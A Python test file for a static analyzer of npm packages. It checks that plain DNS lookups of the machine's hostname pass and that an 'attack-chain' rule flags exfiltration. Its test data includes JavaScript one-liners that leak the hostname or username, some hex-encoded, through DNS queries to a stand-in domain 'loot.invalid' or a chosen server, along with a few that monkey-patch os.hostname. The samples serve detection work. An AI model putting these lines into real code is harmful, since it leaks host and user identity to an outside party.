"""Look-ups of the machine's own name, as it is."""

import time

import pytest

from tests.analysis.inspecting import npm, of_rule, package_json
from tests.analysis.languages.javascript.reading import facts

HEAD = "const dns = require('dns'), os = require('os'), util = require('util');\n"
OWN = {
    "on the spot": "dns.lookup(os.hostname(), done);",
    "through a variable": "const name = os.hostname(); dns.lookup(name, {hints: dns.ADDRCONFIG}, done);",
    "as a promise": "dns.promises.lookup(os.hostname());",
    "made a promise": "util.promisify(dns.lookup)(os.hostname());",
}
TOLD = {
    "joined": "dns.lookup(os.hostname() + '.loot.invalid', done);",
    "in a template": "dns.lookup(`${os.hostname()}.loot.invalid`, done);",
    "in an encoding": "dns.lookup(Buffer.from(os.hostname()).toString('hex') + '.loot.invalid', done);",
    "appended": "let name = os.hostname(); name += '.loot.invalid'; dns.lookup(name, done);",
    "joined before": "let name = os.hostname(); name = name + '.loot.invalid'; dns.lookup(name, done);",
    "joined as a list": "dns.lookup([os.hostname(), 'loot.invalid'].join('.'), done);",
    "joined by a method": "dns.lookup(os.hostname().concat('.loot.invalid'), done);",
    "of another server": "dns.setServers(['192.0.2.1']); dns.resolve4(os.hostname(), done);",
    "of a resolver": "dns.resolve(os.hostname(), done);",
    "replaced": "os.hostname = () => os.userInfo().username + '.loot.invalid'; dns.lookup(os.hostname(), done);",
    "replaced by its name": "os['hostname'] = other; dns.lookup(os.hostname(), done);",
    "replaced by a method": "Object.assign(os, {hostname() { return other; }}); dns.lookup(os.hostname(), done);",
    "the user": "dns.lookup(os.userInfo().username, done);",
}


def told(source: str) -> set[str | None]:
    found = facts(HEAD + source)
    return {flow.target for flow in found.flows if flow.api.startswith("dns.")}


def is_held(source: str) -> bool:
    return bool(of_rule(npm({"index.js": HEAD + source, "package.json": package_json()}), "attack-chain"))


@pytest.mark.parametrize("source", OWN.values(), ids=OWN.keys())
def test_the_name_as_it_is_tells_nobody_anything(source: str) -> None:
    assert {"${hostname}"} == told(source)
    assert not is_held(source)


@pytest.mark.parametrize("source", TOLD.values(), ids=TOLD.keys())
def test_any_other_name_is_told_to_who_answers(source: str) -> None:
    assert "${hostname}" not in told(source)
    assert is_held(source)


@pytest.mark.parametrize("unit", ["hostname(", "hostname:", ".hostname ", "['hostname"])
def test_hostile_text_costs_little(unit: str) -> None:
    start = time.process_time()
    told("dns.lookup(os.hostname(), done); // " + unit * 20_000)
    assert time.process_time() - start < 5
